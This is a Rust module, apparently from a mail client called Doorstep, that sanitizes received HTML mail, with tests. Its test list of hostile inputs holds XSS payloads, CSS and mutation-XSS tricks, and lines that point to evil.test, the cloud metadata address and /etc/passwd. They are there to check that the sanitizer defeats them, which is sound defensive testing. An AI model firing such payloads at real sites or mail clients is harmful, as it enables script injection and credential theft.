//! Received mail, made harmless: what of its HTML may be shown, and its plain text.
//!
//! Anyone writes to a mailbox, so the HTML may be made to run scripts, to load remote content, to
//! look like Doorstep or to keep a parser busy for minutes. The rules for tags and styles are those
//! of templates ([`crate::templates::html`]).

use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::io::{ErrorKind, Read};
use std::sync::LazyLock;

use ammonia::Builder;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use super::plain_text::plain_text;
use crate::templates::html::{filtered, push_tag, rewritten, rich, settled_by};
use crate::templates::tokens::{Token, decoded, tokens};
use crate::templates::weight::is_heavy;

/// The most bytes of HTML that is shown. Of longer HTML, only the text is shown.
pub const MOST_HTML_BYTES: usize = 512 * 1024;

/// The most bytes of the pictures in the shown HTML.
pub const MOST_PICTURE_BYTES: usize = 3 * 1024 * 1024;

/// The attribute with the address of a remote picture that is not loaded.
const NOT_LOADED: &str = "data-src";

/// The media types that a picture in HTML may have.
const PICTURE_TYPES: [&str; 4] = ["image/png", "image/jpeg", "image/gif", "image/webp"];

/// A received mail that may be shown.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct SafeMail {
    /// Its HTML; `None` if it is too long or takes too long to parse.
    pub html: Option<SafeHtml>,
    /// Its plain text.
    pub text: String,
}

/// HTML in which nothing is executed and nothing is loaded.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct SafeHtml {
    /// The HTML of a body.
    pub html: String,
    /// The remote pictures that are not loaded. Their address is in `data-src`.
    pub remote_pictures: usize,
}

/// A received body, made harmless. `pictures` are the contents of attachments by the ids with which
/// the HTML shows them, and of remote pictures by their addresses ([`remote_pictures`]). Parsing ends when `is_in_time` returns false; then only the text is left.
#[must_use]
pub fn safe_mail(html: &str, pictures: &HashMap<String, Vec<u8>>, is_in_time: &dyn Fn() -> bool) -> SafeMail {
    let is_parsed = html.len() <= MOST_HTML_BYTES && !is_heavy(html);
    let clean = Some(html).filter(|_| is_parsed);
    let clean = clean.and_then(|html| settled_by(html, |html| cleaned(html, is_in_time)));
    SafeMail {
        text: plain_text(clean.as_deref().unwrap_or(html)),
        html: clean.map(|clean| with_pictures(&clean, pictures)),
    }
}

/// The ids of the attachments that HTML shows as pictures.
#[must_use]
pub fn shown_attachments(html: &str) -> HashSet<&str> {
    let ends = |c: char| matches!(c, '"' | '\'' | '<' | '>') || c.is_whitespace();
    let parts = html.split("cid:").skip(1);
    parts.filter_map(|part| part.split(ends).next()).collect()
}

/// The addresses of the remote pictures that [`SafeHtml`] doesn't show, each once, in their order.
#[must_use]
pub fn remote_pictures(html: &SafeHtml) -> Vec<String> {
    let mut addresses = Vec::new();
    for token in tokens(&html.html) {
        let Token::Open(tag) = token else { continue };
        let Some(written) = tag.attribute(NOT_LOADED) else {
            continue;
        };
        let address = decoded(written).trim().to_owned();
        if !addresses.contains(&address) {
            addresses.push(address);
        }
    }
    addresses
}

static RECEIVED: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = rich(filtered_of_mail);
    // A link must not replace what the frame shows.
    builder
        .set_tag_attribute_value("a", "target", "_blank")
        .set_tag_attribute_value("a", "rel", "noopener noreferrer")
        .url_schemes(HashSet::from(["http", "https", "mailto", "cid", "data"]));
    builder
});

/// The sanitized value of an attribute. Schemes depend on the attribute.
fn filtered_of_mail<'v>(tag: &str, attribute: &str, value: &'v str) -> Option<Cow<'v, str>> {
    match attribute {
        "src" => source(value).map(|_| Cow::Borrowed(value)),
        "href" => {
            let address = value.trim_start();
            let is_allowed = ["https://", "http://", "mailto:"].iter().any(|scheme| {
                let start = address.get(..scheme.len());
                start.is_some_and(|start| start.eq_ignore_ascii_case(scheme))
            });
            is_allowed.then_some(Cow::Borrowed(value))
        }
        _ => filtered(tag, attribute, value),
    }
}

/// Where the content of a picture is.
enum Source<'a> {
    /// On another server, at this address.
    Remote(&'a str),
    /// In the attachment with this id.
    Attached(&'a str),
    /// In the address.
    Embedded,
}

/// `None` for an address that no picture of a mail may have.
fn source(address: &str) -> Option<Source<'_>> {
    let address = address.trim();
    let (scheme, rest) = address.split_once(':')?;
    match scheme.to_ascii_lowercase().as_str() {
        "http" | "https" if rest.starts_with("//") => Some(Source::Remote(address)),
        "cid" => Some(Source::Attached(rest)),
        "data" => {
            let (kind, content) = rest.split_once(";base64,")?;
            let is_picture = PICTURE_TYPES.iter().any(|one| one.eq_ignore_ascii_case(kind));
            let is_base64 = |byte: u8| {
                byte.is_ascii_alphanumeric() || b"+/=".contains(&byte) || byte.is_ascii_whitespace()
            };
            (is_picture && content.bytes().all(is_base64)).then_some(Source::Embedded)
        }
        _ => None,
    }
}

/// HTML that is read only in time.
struct Parts<'a> {
    rest: &'a [u8],
    is_in_time: &'a dyn Fn() -> bool,
}

impl Read for Parts<'_> {
    fn read(&mut self, part: &mut [u8]) -> std::io::Result<usize> {
        if !(self.is_in_time)() {
            return Err(ErrorKind::TimedOut.into());
        }
        self.rest.read(part)
    }
}

/// Sanitized HTML; `None` when the time is over. The parser reads a few kilobytes at a time, and some
/// HTML makes it slower with each of them.
fn cleaned(html: &str, is_in_time: &dyn Fn() -> bool) -> Option<String> {
    let rest = html.as_bytes();
    let clean = RECEIVED.clean_from_reader(Parts { rest, is_in_time }).ok()?;
    Some(clean.to_string())
}

/// Sanitized HTML with these pictures, within [`MOST_PICTURE_BYTES`], and without other ones.
fn with_pictures(clean: &str, pictures: &HashMap<String, Vec<u8>>) -> SafeHtml {
    let (mut remote_pictures, mut room) = (0, MOST_PICTURE_BYTES);
    let mut embedded = |key: &str| {
        let picture = pictures.get(key).filter(|picture| picture.len() <= room)?;
        let kind = picture_type(picture)?;
        room -= picture.len();
        Some(("src", format!("data:{kind};base64,{}", STANDARD.encode(picture))))
    };
    let html = rewritten(clean, |tag| {
        let written = tag.attribute("src").filter(|_| tag.name == "img")?;
        let address = decoded(written);
        let shown = match source(&address) {
            Some(Source::Embedded) => return None,
            Some(Source::Remote(address)) => embedded(address).or_else(|| {
                remote_pictures += 1;
                Some((NOT_LOADED, written.to_owned()))
            }),
            Some(Source::Attached(id)) => embedded(id),
            None => None,
        };
        let shown = shown.as_ref().map(|(name, value)| (*name, value.as_str()));
        let others = tag
            .attributes()
            .filter_map(|(name, value)| (name != "src").then_some((name, value)));
        let mut out = String::new();
        push_tag(&mut out, tag.name, shown.into_iter().chain(others));
        Some(out)
    });
    SafeHtml {
        html,
        remote_pictures,
    }
}

/// The media type of a picture by its first bytes, whatever its author states. `None` for a file
/// that HTML doesn't show.
#[must_use]
pub fn picture_type(bytes: &[u8]) -> Option<&'static str> {
    let [png, jpeg, gif, webp] = PICTURE_TYPES;
    let is_webp = bytes.starts_with(b"RIFF") && bytes.get(8..12) == Some(b"WEBP");
    match bytes {
        _ if bytes.starts_with(b"\x89PNG\r\n\x1a\n") => Some(png),
        _ if bytes.starts_with(b"\xff\xd8\xff") => Some(jpeg),
        _ if bytes.starts_with(b"GIF87a") || bytes.starts_with(b"GIF89a") => Some(gif),
        _ if is_webp => Some(webp),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use std::cell::Cell;
    use std::time::{Duration, Instant};

    use super::*;
    use crate::templates::tokens::Tag;

    /// A PNG's first bytes.
    const PNG: &[u8] = b"\x89PNG\r\n\x1a\n....";

    const HOSTILE: &[&str] = &[
        "<script>alert(1)</script><SCRIPT SRC=//evil.test/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)><body onload=alert(1)><p onclick=alert(1)>x",
        "<a href=\"javascript:alert(1)\">x</a><a href=\"&#106;ava\nscript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a><a href=\"cid:a\">x</a>",
        "<a href=\"/api/account/logout\">x</a><a href=//evil.test>x</a><a href=tel:911>x</a>",
        "<a href=https://evil.test target=_self>x</a><a href=https://evil.test target=_top rel=opener>x</a>",
        "<area href=https://evil.test><map name=m></map>",
        "<style>@import url(https://evil.test/x.css); body { background: url(https://evil.test) }</style>",
        "<link rel=stylesheet href=https://evil.test/x.css>",
        "<div style=\"background: url(https://evil.test/x)\">x</div><td background=https://evil.test>x",
        "<div style=\"background-color: u\\72l(https://evil.test/x); list-style: url(x)\">x</div>",
        "<div style=\"position: fixed; top: 0; z-index: 9; width: expression(alert(1))\">x</div>",
        "<base href=https://evil.test><meta http-equiv=refresh content='0;url=https://evil.test'>",
        "<form action=https://evil.test><input name=password><button formaction=x>Go</button></form>",
        "<iframe src=https://evil.test></iframe><object data=x></object><embed src=x><frame src=x>",
        "<svg onload=alert(1)><script>alert(1)</script><image href=https://evil.test/x></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg><math><mtext><style><img src onerror=alert(1)>",
        "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\"><img src='data:text/html;base64,PHN2Zy8+'>",
        "<img src='data:image/png;base64,\"><script>alert(1)</script>'>",
        "<img src=https://evil.test/a.png srcset='https://evil.test/b.png 2x' loading=lazy>",
        "<picture><source srcset=https://evil.test/a.png><img src=http://169.254.169.254/latest/meta-data/></picture>",
        "<video poster=https://evil.test/a.png src=x></video><audio src=https://evil.test/a.mp3>",
        "<img src=file:///etc/passwd><img src=/media/x.png><img src=../x.png><img src=blob:x>",
        "<img src=\"cid:unknown\"><img src=' HTTPS://evil.test/x.png' data-src=x>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<!--[if mso]><script>alert(1)</script><![endif]--><template><script>alert(1)</script></template>",
        "<p id=root class=x name=y data-x=z>x</p><dialog open>x</dialog><details ontoggle=alert(1) open>",
        "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>",
    ];

    fn safe(html: &str) -> SafeMail {
        safe_mail(html, &HashMap::new(), &|| true)
    }

    fn shown(html: &str, pictures: &HashMap<String, Vec<u8>>) -> SafeHtml {
        safe_mail(html, pictures, &|| true).html.unwrap_or_default()
    }

    fn is_harmless(tag: Tag<'_>) -> bool {
        let is_allowed = |(name, value): (&str, &str)| {
            let value = decoded(value).to_ascii_lowercase();
            match name {
                "src" => value.starts_with("data:image/png;base64,"),
                "href" => ["https://", "http://", "mailto:"]
                    .iter()
                    .any(|scheme| value.starts_with(scheme)),
                "style" => !["url", "expression", "position", "\\"]
                    .iter()
                    .any(|word| value.contains(word)),
                "target" => value == "_blank",
                "rel" => value == "noopener noreferrer",
                NOT_LOADED => tag.name == "img" && value.trim().starts_with("http"),
                _ => ["alt", "title", "width", "height", "align", "dir", "lang"].contains(&name),
            }
        };
        let is_known = ["a", "b", "div", "img", "p", "td", "br"].contains(&tag.name);
        let opens_elsewhere = tag.name != "a" || tag.attribute("target").is_some();
        is_known && opens_elsewhere && tag.attributes().all(is_allowed)
    }

    // CONN-24, CONN-41
    #[test]
    fn nothing_of_a_hostile_mail_is_executed_or_loaded() {
        let together = HOSTILE.concat();
        assert!(HOSTILE.iter().all(|html| safe(html).html.is_some()));
        for html in HOSTILE.iter().copied().chain([&*together]) {
            let clean = safe(html).html.unwrap_or_default().html;
            for token in tokens(&clean) {
                if let Token::Open(tag) = token {
                    assert!(is_harmless(tag), "{html} became {clean}");
                }
            }
        }
    }

    #[test]
    fn an_ordinary_mail_keeps_its_look() {
        let html = "<p style=\"color: #333; margin: 0\">Hello <b>Dana</b>,</p>\
                    <table width=\"600\" bgcolor=\"#fff\"><tbody><tr><td align=\"center\">x</td></tr></tbody></table>";
        assert_eq!(shown(html, &HashMap::new()).html, html);
        let link = shown("<a href=\"mailto:a@b.test\">x</a>", &HashMap::new());
        assert_eq!(link.html.matches("target=\"_blank\"").count(), 1);
        assert!(link.html.contains("href=\"mailto:a@b.test\""), "{link:?}");
    }

    // CONN-41
    #[test]
    fn remote_pictures_are_counted_and_not_loaded() {
        let html = "<img src=\"https://x.test/a.png?a=1&amp;b=2\" alt=\"A\"><img src=http://x.test/b.png><img src=x>";
        let SafeHtml {
            html,
            remote_pictures,
        } = shown(html, &HashMap::new());
        assert_eq!(remote_pictures, 2);
        assert_eq!(
            html,
            "<img data-src=\"https://x.test/a.png?a=1&amp;b=2\" alt=\"A\"><img data-src=\"http://x.test/b.png\">"
        );
    }

    // CONN-41: after the click
    #[test]
    fn loaded_remote_pictures_are_shown() {
        let html = "<img src=\"https://x.test/a.png?a=1&amp;b=2\"><img src=https://x.test/b.svg><img src=https://x.test/b.svg>";
        let blocked = shown(html, &HashMap::new());
        let addresses = ["https://x.test/a.png?a=1&b=2", "https://x.test/b.svg"];
        assert_eq!(remote_pictures(&blocked), addresses);
        let pictures = HashMap::from([
            (addresses[0].to_owned(), PNG.to_vec()),
            (addresses[1].to_owned(), b"<svg onload=alert(1)>".to_vec()),
        ]);
        let loaded = shown(html, &pictures);
        assert_eq!(loaded.remote_pictures, 2);
        let data = STANDARD.encode(PNG);
        assert!(
            loaded
                .html
                .starts_with(&format!("<img src=\"data:image/png;base64,{data}\">")),
            "{loaded:?}"
        );
    }

    #[test]
    fn pictures_of_attachments_are_shown_within_the_bound() {
        let large = [PNG, vec![0; MOST_PICTURE_BYTES / 2].as_slice()].concat();
        let pictures = HashMap::from([
            ("logo@x".to_owned(), PNG.to_vec()),
            ("vector@x".to_owned(), b"<svg onload=alert(1)>".to_vec()),
            ("large@x".to_owned(), large),
        ]);
        let html = "<img src=\"cid:logo@x\" alt=\"Logo\"><img src=\"cid:vector@x\"><img src=cid:none>";
        let data = STANDARD.encode(PNG);
        assert_eq!(
            shown(html, &pictures).html,
            format!("<img src=\"data:image/png;base64,{data}\" alt=\"Logo\"><img><img>")
        );
        assert_eq!(
            shown_attachments(html),
            HashSet::from(["logo@x", "vector@x", "none"])
        );
        // A picture that is shown again counts again.
        let again = shown(&"<img src=\"cid:large@x\">".repeat(1_000), &pictures).html;
        assert_eq!(again.matches("src=").count(), 1);
        let embedded = format!("<img src=\"data:image/png;base64,{data}\">");
        assert_eq!(shown(&embedded, &pictures).html, embedded);
    }

    #[test]
    fn long_and_deep_mails_are_shown_as_text_within_a_second() {
        let tables = format!(
            "{}deep{}",
            "<table><tr><td>".repeat(1_000),
            "</td></tr></table>".repeat(1_000)
        );
        let long = format!(
            "<p>long</p>{}",
            "<p style=\"color: red\">Some <b>words</b></p>".repeat(120_000)
        );
        assert!(long.len() > 5_000_000);
        for (html, text) in [
            (tables, "deep"),
            ("<div>".repeat(100_000) + "deep", "deep"),
            (long, "long"),
        ] {
            let begun = Instant::now();
            let mail = safe(&html);
            assert!(begun.elapsed() < Duration::from_secs(1), "{:?}", begun.elapsed());
            assert_eq!(mail.html, None);
            assert!(mail.text.starts_with(text), "{}", mail.text.len());
        }
        let fits = "<p style=\"color: red\">Some <b>words</b></p>".repeat(10_000);
        let begun = Instant::now();
        assert!(safe(&fits).html.is_some());
        assert!(begun.elapsed() < Duration::from_secs(1), "{:?}", begun.elapsed());
    }

    #[test]
    fn parsing_ends_when_the_time_is_over() {
        // Each line break goes before the table, past all others.
        let slow = format!("<table>{}late", "<br>".repeat(100_000));
        let parts = Cell::new(0);
        let mail = safe_mail(&slow, &HashMap::new(), &|| {
            parts.set(parts.get() + 1);
            parts.get() < 5
        });
        assert_eq!((mail.html, parts.get()), (None, 5));
        assert_eq!(mail.text, "late");
    }
}
